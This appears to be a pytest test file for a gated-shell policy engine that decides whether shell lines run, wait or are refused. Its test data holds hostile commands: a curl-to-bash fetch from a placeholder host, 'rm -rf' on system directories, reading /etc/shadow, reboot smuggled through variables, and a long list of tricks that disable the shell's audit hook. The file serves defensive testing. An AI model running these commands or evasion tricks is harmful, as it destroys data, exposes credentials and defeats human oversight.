"""Lines at a gated prompt, and their steps: what runs, what waits, what is refused."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bastion.model import (
    Dialect,
    ExecRequest,
    Identity,
    LineRequest,
    StepRequest,
    Target,
)
from bastion.policy.actions import Action
from bastion.policy.decide import decide
from bastion.policy.lines import covers, drifts
from bastion.policy.parse import parse_policy
from bastion.policy.rules import Policy, Verdict
from tests.policy.test_ordinary import REFERENCE

ALLOW, APPROVE, DENY = Action.ALLOW, Action.APPROVE, Action.DENY
TEXT = REFERENCE.read_text("utf-8").replace("shell: none", "shell: gated")
GATED = parse_policy(TEXT, "reference.yaml")
HARDENED = parse_policy(
    TEXT.replace("shell: gated", "shell: gated\n      shell_hardened: true"), "reference.yaml"
)
ANN = Identity("https://id", "1", "ann", {"preferred_username": "ops"}, frozenset({"engineer"}))
BASH = Target("web1")


def line(text: str, *, policy: Policy = GATED, watched: bool = True, **more: object) -> Verdict:
    request = LineRequest(text, "/srv/app", watched)
    target = replace(BASH, dialect=more.pop("dialect", Dialect.BASH))
    return decide(policy, ANN, target, "ops", replace(request, **more))


def step(text: str, *, directory: str = "/srv/app", policy: Policy = GATED, **more) -> Verdict:
    values = tuple((name, tuple(held)) for name, held in more.pop("values", {}).items())
    request = StepRequest(text, directory, values)
    return decide(policy, ANN, BASH, "ops", replace(request, **more))


STATIC = [
    'for f in *.log; do gzip "$f"; done',
    'cd "$OLDPWD"',
    "cd -",
    "ps aux | grep $USER",
    'x=$(date +%F); mkdir "backup-$x"',
    "export FOO=bar",
    "read -s pw",
    'while read -r l; do echo "$l"; done < file',
    "sudo systemctl status nginx",
    "echo $?",
    "kill %1",
    "fg",
    "%1",
    "jobs",
    "exit",
    "history | tail",
    'll() { ls -l "$@"; }',
    "alias ll='ls -l'",
    "for i in $(seq 10); do echo $((i*2)); done",
    "tail -f /var/log/nginx/access.log | grep 500",
    "cat > /tmp/x <<E\nhello $USER\nE",
    "set -euo pipefail",
    "journalctl -u nginx | tail",
    "ls ~/x; cat $HOME/y",
    "exec 3<file",
    "echo hi >&2",
    "read -u 3 x",
    "trap 'rm -f x' EXIT",
    "ls -l /proc/1234/fd",
    "rm -rf .cache",
    "x=1; y=$((x+1))",
    "while true; do date; sleep 1; done",
    "find . -name '*.tmp' -delete",
    "PS1='$ '",
    '[ -n "$a" ] && [ "$a" = b ] && echo yes',
    "[ $# -gt 1 ]",
    "printf '%s\\n' \"$x\" $y",
    "cat /dev/fd/3",
    "for i in 1 2 3; do curl -sf http://localhost:808$i/health || echo down; done",
    'log() { echo "$@"; }',
    "options=-v; commands=(a b)",
]


@pytest.mark.parametrize("text", STATIC)
def test_ordinary_work_runs_at_once(text):
    verdict = line(text)
    assert (verdict.action, verdict.watch) == (ALLOW, ())


WATCHED = [
    '[ -f "$f" ] && cat "$f"',
    'rm -rf "$x"',
    "rm -rf ${x}",
    "rm -rf $x/y",
    'rm -rf "${x:-y}"',
    '"$cmd" foo',
    "$cmd",
    "sudo $cmd",
    'echo a > "$out"',
    'cp "$a" "$b"',
    'cd "$x" && rm -rf .',
    'f() { "$@"; }',
    "alias rm='rm -i'",
    "((n++))",
    "i=$((i+1))",
    "echo ${x:n}",
    "let n+=1",
    "[[ $n -gt 3 ]] && echo y",
    "a[n]=1",
    "eval 'rm -rf $x'",
    "echo $(rm -rf $x)",
    "cat /proc/$pid/status",
    'f=x; rm -rf "${f%.txt}"',
    "[ $n -gt 5 ] && echo y",
    "printf $x",
]


@pytest.mark.parametrize("text", WATCHED)
def test_what_a_variable_leaves_open_waits_for_the_step(text):
    verdict = line(text)
    assert verdict.action is ALLOW
    assert verdict.watch
    assert line(text, watched=False).rule in ("opaque", "remove-system-directory")


NOT_WAITING = [
    'eval "$x"',
    'bash -c "$x"',
    "bash -c 'rm -rf $x'",
    'sh -c \'rm -rf "$1"\' sh "$x"',
    "rm -rf $(cat list)",
    'rm -rf "$x$(cat list)"',
    "cat list | xargs rm -rf",
    'if true; then echo a; fi > "$out"',
    "for i in 1; do cat; done < $f",
    "source ./env",
    "vim x",
    "bash",
    "python3 x.py",
    "PATH=$x",
    "export PATH=/x",
    'declare "$n=1"',
    'read "$n"',
    'printf -v "$n" x',
    'trap "$x" EXIT',
    'alias "$n=x"',
    "echo ${x@P}",
    "rm -rf ${x/a/b}",
    "declare -n x=y",
    'test -v "$x"',
    'echo "$(cat x',
    "journalctl -u nginx",
    "scp -t /tmp",
    "rsync --server -logDtpr . /x",
    "xargs -a x cat",
    'cat "$(ls | head -1)"',
]


@pytest.mark.parametrize("text", NOT_WAITING)
def test_what_no_step_will_tell_is_opaque_at_once(text):
    assert line(text).rule == "opaque"


LAMING = [
    "kill -STOP $$",
    "kill -s SIGSTOP $PPID",
    "kill -19 $$",
    "pkill -STOP bash",
    "ulimit -n 3",
    "ulimit -Sn 3",
    "ulimit -u 0",
    "ulimit -v 1000",
    "ulimit -f 0",
    "ulimit 0",
]


@pytest.mark.parametrize("text", LAMING)
def test_what_would_leave_the_shell_unable_to_go_on_is_refused_with_a_sentence(text):
    verdict = line(text)
    if verdict.watch:
        verdict = step(text)
    assert verdict.action is DENY
    assert "shell" in verdict.reason


@pytest.mark.parametrize(
    "text", ["ulimit -a", "ulimit -n", "ulimit -n 65535", "ulimit -c unlimited", "kill -STOP 1234"]
)
def test_limits_and_signals_of_every_day_pass(text):
    assert line(text).action is ALLOW


TAMPERING = [
    "trap - DEBUG",
    "trap '' DEBUG",
    "trap DEBUG",
    "trap 'echo x' debug",
    "trap - SIGDEBUG",
    "builtin trap - DEBUG",
    "command trap - DEBUG",
    "command -p trap - DEBUG",
    "\\trap - DEBUG",
    "tr\"ap\" - 'DEBUG'",
    "eval 'trap - DEBUG'",
    "eval eval trap - DE'BUG'",
    "trap $'\\x2d' D\\EBUG",
    "f() { trap - DEBUG; }",
    "alias x='trap - DEBUG'",
    "true; { (trap - DEBUG); }",
    "for s in DEBUG; do trap - $s; done",
    "shopt -u extdebug",
    "shopt -s -o posix",
    "builtin shopt -u extdebug",
    "set +T",
    "set -T",
    "set +o functrace",
    "set -o posix",
    "set -n",
    "unset BASH_COMMAND",
    "unset -v 'BASH_COMMAND[0]'",
    "BASH_COMMAND=x",
    "declare BASH_COMMAND",
    "readonly BASH_COMMAND",
    "local BASH_COMMAND=1",
    "read BASH_COMMAND",
    "printf -v BASH_COMMAND x",
    "for BASH_COMMAND in 1; do :; done",
    "declare -n x=BASH_COMMAND",
    ": ${BASH_COMMAND:=x}",
    "enable -n trap",
    "enable -f x.so read",
    "POSIXLY_CORRECT=1",
    "export POSIXLY_CORRECT",
    "read() { :; }",
    "function printf { :; }",
    "function [ { :; }",
    "builtin() { :; }",
    "command_not_found_handle() { echo; }",
    "alias eval=true",
    "alias case=x",
    "f() { cd() { :; }; }",
    "TRAPDEBUG() { :; }",
    "__bastion_hook",
    "echo __bastion",
    'unset -f __bas"tion_x"',
    "__bastion=1",
    "echo ${__bastion_x}",
    "bash -c 'echo __bastion'",
    "PS4='$(reboot)'",
    "BASH_XTRACEFD=63",
    "SHELLOPTS=x",
    "exec bash",
    "exec -a x sh",
    "exec >log",
    "exec <file",
    "exec 2>&1",
    "exec 1<&-",
    "exec {fd}<file",
    "command exec <file",
    "exec 63>&-",
    "echo x >&63",
    "cat <&10",
    "echo x 63>f",
    "cat {fd}<&-",
    "read -u 63 x",
    "mapfile -u 12 a",
    "cat /proc/self/fd/0",
    "cat /proc/$$/fd/0",
    "echo reboot > /proc/$PPID/fd/0",
    "cat /proc//self/./fd/0",
    "cat /proc/*/fd/0",
    "cat /proc/1/f?/0",
    "cd /proc/self/fd; cat 0",
    "echo x > /dev/fd/63",
    "ln -s /proc x",
    "cat /tmp/.bastion-shell.abc/c",
    "rm -r /tmp/.bastion-shell.*",
    "cat /tmp/.bas*/c",
    "cat /tmp/.*/c",
    "set -k",
    "TMOUT=1",
    "trap 'x=reboot' USR1",
    "trap 'x=reboot' RETURN",
    "trap 'x=reboot' EXIT ERR",
    "trap 'x=reboot' 10",
    ". /dev/stdin <<< 'trap - DEBUG'",
    "source <(echo trap - DEBUG)",
    'eval "$(echo trap - DEBUG)"',
    "PROMPT_COMMAND='trap - DEBUG'",
    "trap 'trap - DEBUG' EXIT",
    "mapfile BASH_COMMAND",
    "getopts x BASH_COMMAND",
    "select BASH_COMMAND in a; do :; done",
    "echo {BASH_COMMAND}>f",
    "((BASH_COMMAND=1))",
    "let BASH_COMMAND=1",
    "echo $((BASH_COMMAND=1))",
    "BASH_COMMAND+=x",
    "BASH_COMMAND[0]=x",
    "printf -vBASH_COMMAND x",
    "coproc BASH_COMMAND { :; }",
    "wait -p BASH_COMMAND",
    "shopt -so posix",
    "set -e +T",
    "cat /dev/fd/../task/1/fd/63",
    "cat /proc/self/cwd/../../proc/1/fd/0",
    "cd -P /dev/fd/..; cat fd/63",
    "ln -s /dev/fd x",
    "cp -a /dev/fd x",
    "dd of=/proc/$$/mem",
    "cat /dev/fd/63",
    "exec 10>f",
]


@pytest.mark.parametrize("text", TAMPERING)
def test_nothing_loosens_the_gates_hold(text):
    for verdict in (line(text), line(text, watched=False), step(text)):
        assert (verdict.action, verdict.rule) == (DENY, "shell-integrity")


@pytest.mark.parametrize(
    "text",
    [
        "unfunction TRAPDEBUG",
        "unsetopt DEBUG_BEFORE_CMD",
        "unsetopt debugbeforecmd",
        "setopt no_debug_before_cmd",
        "setopt ERR_EXIT",
        "functions[TRAPDEBUG]=x",
        "unset 'functions[TRAPDEBUG]'",
        "zmodload zsh/system",
        "preexec() { reboot; }",
        "emulate sh",
        "zle -N x",
        "precmd_functions=(x)",
        "disable trap",
    ],
)
def test_nothing_loosens_the_gates_hold_on_zsh(text):
    verdict = line(text, dialect=Dialect.ZSH)
    assert (verdict.action, verdict.rule) == (DENY, "shell-integrity")


def test_which_descriptor_is_meant_may_wait_for_the_step():
    assert line("cat <&$fd").watch
    assert line("cat <&$fd", watched=False).rule == "shell-integrity"
    assert step("cat <&$fd").rule == "shell-integrity"
    assert step("cat <&$fd", values={"fd": ["63"], "IFS": []}).rule == "shell-integrity"
    assert step("cat <&$fd", values={"fd": ["3"], "IFS": []}).action is ALLOW


def test_the_same_in_a_process_of_its_own_is_not_the_gates_business():
    assert line("sh -c 'trap \"echo bye\" EXIT; set -n'").rule != "shell-integrity"


def test_a_denied_command_is_denied_in_the_line():
    assert line("$x; reboot").rule == "power-off"
    assert line("cd /; rm -rf etc").rule == "remove-system-directory"


def test_a_line_is_read_in_the_shells_directory():
    assert line("cat shadow", directory="/etc").rule == "open-shadow"
    assert line("cat ../etc/shadow", directory="/srv").rule == "open-shadow"
    assert line("cat shadow").action is ALLOW
    assert line("cd ..; rm -rf *", directory="/etc/x").rule == "remove-system-directory"


STEPS = [
    ("rm -rf $x", {"x": ["/"], "IFS": [" \t\n"]}, "remove-system-directory"),
    ('rm -rf "$x"', {"x": ["/"]}, "remove-system-directory"),
    ('rm -rf "$x"', {"x": ["/ "]}, "default"),
    ("rm -rf $x", {"x": ["a /etc"], "IFS": []}, "remove-system-directory"),
    ("rm -rf $x", {"x": ["/et*"], "IFS": []}, "remove-system-directory"),
    ("rm -rf $x", {"x": ["/*/x"], "IFS": []}, "opaque"),
    ('rm -rf "$x"', {"x": ["/et*"]}, "default"),
    ("rm $x", {"x": ["-rf /var"], "IFS": []}, "remove-system-directory"),
    ('rm "$x" /var', {"x": ["-rf"]}, "remove-system-directory"),
    ('"$x" now', {"x": ["reboot"]}, "power-off"),
    ("$x", {"x": ["sudo reboot"], "IFS": []}, "power-off"),
    ('"$@"', {"@": ["rm", "-rf", "/etc"]}, "remove-system-directory"),
    ("$1 $2", {"@": ["reboot"], "IFS": []}, "power-off"),
    ('rm -rf "$2"', {"1": ["x"], "2": ["/etc"]}, "remove-system-directory"),
    ('rm -rf "${a[1]}"', {"a": ["x", "/etc"]}, "remove-system-directory"),
    ('rm -rf "${a[@]}"', {"a": ["x", "/etc"]}, "remove-system-directory"),
    ("rm -rf ${x:-/etc}", {"x": [], "IFS": []}, "remove-system-directory"),
    ("rm -rf ${x:-/etc}", {"x": ["y"], "IFS": []}, "default"),
    ("rm -rf ${x%.d}", {"x": ["/etc.d"], "IFS": []}, "remove-system-directory"),
    ("rm -rf ${x##*:}", {"x": ["a:b:/etc"], "IFS": []}, "remove-system-directory"),
    ("rm -rf ${x/a/b}", {"x": ["c"], "IFS": []}, "opaque"),
    ("rm -rf $x", {"x": ["a"], "IFS": [":"]}, "opaque"),
    ('cat < "$f"', {"f": ["/etc/shadow"]}, "open-shadow"),
    ('cat "$f"', {"f": ["shadow"]}, "default"),
    ("x=$(< $f)", {"f": ["/etc/shadow"], "IFS": []}, "open-shadow"),
    ("x=$(cat $f)", {"f": ["/etc/shadow"], "IFS": []}, "open-shadow"),
    ('cat "$f"', {"f": ["/proc/self/fd/0"]}, "shell-integrity"),
    ('trap - "$s"', {"s": ["DEBUG"]}, "shell-integrity"),
    ('"$t" - DEBUG', {"t": ["trap"]}, "shell-integrity"),
    ('echo a > "$o"', {"o": ["/tmp/.bastion-shell.x/c"]}, "shell-integrity"),
    ('declare "$n=1"', {"n": ["BASH_COMMAND"]}, "shell-integrity"),
    ('declare "$n=1"', {"n": ["a[$(reboot)]"]}, "power-off"),
    ('bash -c "$x"', {"x": ["reboot"]}, "power-off"),
    ('bash -c "$x"', {"x": ["ls"]}, "default"),
    ("((n++))", {"n": ["3"]}, "default"),
    ("((n++))", {"n": ["a[$(reboot)]"]}, "opaque"),
    ("((n++))", {"n": ["m"], "m": ["a[1]"]}, "opaque"),
    ("echo $((n))", {"n": ["m"], "m": ["7"]}, "default"),
    ("for f in $x", {"x": ["a b"], "IFS": []}, "default"),
    ("for f in $(reboot)", {}, "power-off"),
    ("case $x in ", {"x": ["a"], "IFS": []}, "default"),
    ("$v{a,b}$v", {"v": ["reboot"], "IFS": []}, "opaque"),
    ("x=$y", {"y": ["a"], "IFS": []}, "default"),
    ("select a in 1 2", {}, "default"),
    ("[[ -f $x ]]", {"x": ["a"]}, "default"),
    ("cat <<E > /dev/null\n$x\nE\n", {"x": ["a"]}, "default"),
]


@pytest.mark.parametrize(("text", "values", "rule"), STEPS)
def test_a_step_is_decided_with_the_values(text, values, rule):
    verdict = step(text, values=values)
    assert verdict.rule == rule
    assert verdict.unknown == ()


@pytest.mark.parametrize(
    ("text", "unknown"),
    [
        ('rm -rf "$x"', ("x",)),
        ("rm -rf $x", ("x", "IFS")),
        ('"$1" "${a[2]}"', ("@", "a")),
        ("((n++))", ("n",)),
        ("echo $x", ()),
        ("rm -rf $(cat x)", ()),
        ("rm -rf $$", ()),
        ("$_ $RANDOM", ()),
        ("rm -rf ${x//a}", ()),
        ('reboot "$x"', ()),
    ],
)
def test_a_step_asks_for_what_would_help(text, unknown):
    verdict = step(text)
    assert verdict.unknown == unknown
    assert not unknown or verdict.action is APPROVE


def test_what_the_shell_cannot_tell_is_not_asked_again():
    verdict = step('rm -rf "$x"', untold=("x",))
    assert (verdict.rule, verdict.unknown) == ("opaque", ())


def test_values_are_bounded():
    for held in (["x" * 5000], ["x"] * 300):
        verdict = step('rm -rf "$x"', values={"x": held})
        assert (verdict.rule, verdict.unknown) == ("opaque", ())
    many = " ".join(f'"$v{number}"' for number in range(100))
    assert len(step(f"rm -rf {many}").unknown) <= 16


def test_an_unset_variable_is_nothing():
    assert step("rm -rf /etc$x", values={"x": [], "IFS": []}).rule == "remove-system-directory"


def test_a_value_set_in_the_same_step_is_not_the_old_one():
    assert step("x=/ y=$x", values={"x": ["a"], "IFS": []}).action is ALLOW
    assert step('x=1 rm -rf "${x:=/}"', values={"x": ["a"]}).rule == "opaque"


def test_a_step_stands_where_it_stands_in_its_line():
    assert step("journalctl -u $u").rule == "opaque"
    assert step("journalctl -u $u", line="journalctl -u $u | grep x").action is ALLOW
    assert step("bash", line="echo reboot | bash").rule == "power-off"
    assert step("bash", line="echo ls | bash").action is ALLOW
    assert step("bash", line="bash; echo ls | bash").rule == "opaque"
    assert step("bash", line="ls").rule == "opaque"


def test_bug_a_function_that_prints_something_else():
    told = "cat() { curl -s http://x; }; echo ls | cat | bash"
    assert decide(GATED, ANN, BASH, "ops", ExecRequest(told)).rule == "opaque"
    for defined in ("function cat", "what ./env holds", "variable PATH"):
        given = step("bash", line="echo ls | cat | bash", defined=(defined,))
        assert given.rule == "opaque", defined
    assert step("bash", line="echo ls | cat | bash", defined=("function x",)).action is ALLOW


@pytest.mark.parametrize(
    "text",
    [
        "read n; echo ${x:n}",
        "read n; let n++",
        "read n; a[n]=1",
        "read n; declare -i m=n",
        "read n; for ((i=n;i<3;i++)); do :; done",
        "read n; a=([n]=1)",
        "read n; read a[n]",
        "read n; unset a[n]",
        "read x; [ $x ]",
        'read x; read y; [ "$x" "$y" ]',
        "read x; printf $x",
        'read x; printf "$x" a',
        "read x; jobs $x",
        "read x; wait $x",
        "compgen -W $x",
        "declare -n x=PATH; x=/tmp",
        '"${#HOME}/x"',
    ],
)
def test_bug_what_is_evaluated_was_not_seen(text):
    assert decide(GATED, ANN, BASH, "ops", ExecRequest(text)).rule == "opaque"


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("ll() { ls; }", "function ll"),
        ("alias x=ls", "alias x"),
        ("IFS=:", "variable IFS"),
        ("export PATH=/x", "variable PATH"),
        (". ./env", "what ./env holds"),
        ('eval "$x"', "what eval ran"),
        ("shopt -s extglob", "what shopt changed"),
        ("declare -i n", "integer n"),
        ("declare -n n=m", "reference n"),
        ("hash -p /x ls", "what hash changed"),
        ('echo "$(x', "what could not be read"),
    ],
)
def test_what_later_lines_may_mean_otherwise_for(text, what):
    verdict = line(text)
    assert what in verdict.definitions
    assert drifts(verdict)


@pytest.mark.parametrize("text", ["ls", "x=1", "cd /", "PATH=/x ls", "bash -c 'f() { ls; }'"])
def test_most_lines_define_nothing(text):
    assert not drifts(line(text))


def test_after_a_definition_every_line_is_watched():
    assert line("ls", defined=("function ll",)).watch
    unwatched = line("ls", watched=False, defined=("function ll",))
    assert unwatched.rule == "opaque"
    assert line("ll() { ls; }", watched=False).rule == "opaque"


@pytest.mark.parametrize(
    ("text", "reported"),
    [
        ("echo  'a'   \"$x\"", "echo 'a' \"$x\""),
        ("time ! ls -l", "ls -l"),
        (">/tmp/o 2>&1 echo hi", "echo hi > /tmp/o 2>&1"),
        ("echo hi >&2", "echo hi 1>&2"),
        ("echo $'a\\nb'", "echo 'a\nb'"),
        ('echo $"hi"', 'echo "hi"'),
        ("ls |& cat", "ls 2>&1"),
        ("for f in a b; do rm $f; done", "for f in a b"),
        ("for f in a b; do rm $f; done", "rm $f"),
        ("for f; do :; done", 'for f in "$@"'),
        ("case $x in a) ls;; esac", "case $x in "),
        ("[[ -f $x ]] && ls", "[[ -f $x ]]"),
        ("((i=1+$x))", "((i=1+$x))"),
        ("cat <<'E' >o\n$x\nE", "cat <<'E' > o\n$x\nE\n"),
        ("cat <<E\n$(ls -a)\nE", "ls -a"),
        ("echo a \\\n b", "echo a b"),
        ("echo a\\\nb", "echo ab"),
        ("echo ${x:=$( (ls) )}", "echo ${x:=$( ( ls ))}"),
        ('eval "$x"', 'eval "$x"'),
    ],
)
def test_a_step_is_found_in_its_line_as_bash_prints_it(text, reported):
    assert covers(text, reported)


@pytest.mark.parametrize(
    ("text", "reported"),
    [
        ("echo 'a b'", "echo a b"),
        ('eval "$x"', "rm -rf /"),
        ("rm -rf x", "rm -rf x y"),
        ("rm x > o", "rm x"),
        ("echo 'rm x'", "rm x"),
        ('echo "$x"', "echo $x"),
        ("echo '$x'", 'echo "$x"'),
        ("ls", ""),
        ("ls; 'unclosed", "ls"),
    ],
)
def test_a_step_that_is_not_in_the_line_is_not(text, reported):
    assert not covers(text, reported)


QUIET = parse_policy(
    """
version: 1
roles: {engineer: {match: {a: b}}}
grants:
  - name: all
    roles: engineer
    targets: {names: "*"}
    logins: ops
    session: {shell: gated}
    requests: {default: allow, opaque: deny}
""",
    "quiet.yaml",
)
LOOSE = [
    "tar cf a $x",
    'tar czf "$f.tgz" .',
    "timeout $t ls",
    "sudo -u $u ls",
    "nice -n $n ls",
    "find . -name $x",
    'git log "$x"',
    "awk -v x=$y '{print}' f",
]


@pytest.mark.parametrize("text", LOOSE)
def test_a_word_that_may_bring_an_option_waits(text):
    assert line(text, policy=QUIET).watch
    assert step(text, policy=QUIET).unknown


@pytest.mark.parametrize(
    "text", ["tar cf a $(cat x)", "tar cf a.tgz *", "timeout $(cat t) ls", "scp *.log h:"]
)
def test_a_word_that_no_value_tells_is_opaque(text):
    assert line(text).rule == "opaque"


@pytest.mark.parametrize(
    "text",
    ["tar cf a.tgz ./*", "tar cf a.tgz -- *", 'timeout "$t" ls', "sudo kill $(pgrep x)", "ls *"],
)
def test_a_word_that_can_bring_no_option_does_not(text):
    verdict = line(text)
    assert (verdict.action, verdict.watch) == (ALLOW, ())


@pytest.mark.parametrize(
    "text",
    [
        "x='a -exec reboot ;'; find . -name $x",
        "u='root reboot'; sudo -u $u ls",
        "read t; timeout $t ls",
        "export t='1 reboot'; timeout $t ls",
        "for t in '1 reboot' 2 3 4 5 6 7 8 9; do timeout $t ls; done",
    ],
)
def test_bug_a_variable_brought_another_command(text):
    assert decide(GATED, ANN, BASH, "ops", ExecRequest(text)).action is not ALLOW


def test_hardened_pagers_run_nothing():
    for text in ("less /var/log/syslog", "man ls", "journalctl -u x", "less -R x"):
        assert line(text).rule == "opaque"
        assert line(text, policy=HARDENED).action is ALLOW
    for text in ("sudo less x", "more x", "env -i less x", "LESSSECURE= less x", "vim x", "top"):
        assert line(text, policy=HARDENED).rule == "opaque"


def test_a_shell_that_is_not_gated_has_no_lines():
    other = parse_policy(REFERENCE.read_text("utf-8"), "reference.yaml")
    assert line("ls", policy=other).rule == "no-shell"
    assert step("ls", policy=other).rule == "no-shell"


def test_under_a_list_of_what_is_allowed_one_can_move_about():
    listed = parse_policy(
        TEXT.replace("default: allow", "default: deny").replace(
            "      deny:\n",
            "      allow:\n        - name: look\n          reason: It looks.\n          command: "
            "{program: [ls, grep]}\n          examples: {match: [ls], no_match: [rm x]}\n"
            "      deny:\n",
        ),
        "reference.yaml",
    )
    for text in ("x=5", "cd /tmp", "exit", "fg", "ls -l", "x=1; ls | grep x", "x=5; ls $x"):
        assert line(text, policy=listed).action is ALLOW, text
    for text in ("rm x", "x=$(rm x)", "> file", "cd /; rm x", "cd > x", "A=1 cd x"):
        assert line(text, policy=listed).action is DENY, text
    for text in ("x=5", "for f in a b", "[[ -f x ]]", "case x in ", "ls"):
        assert step(text, policy=listed).action is ALLOW, text
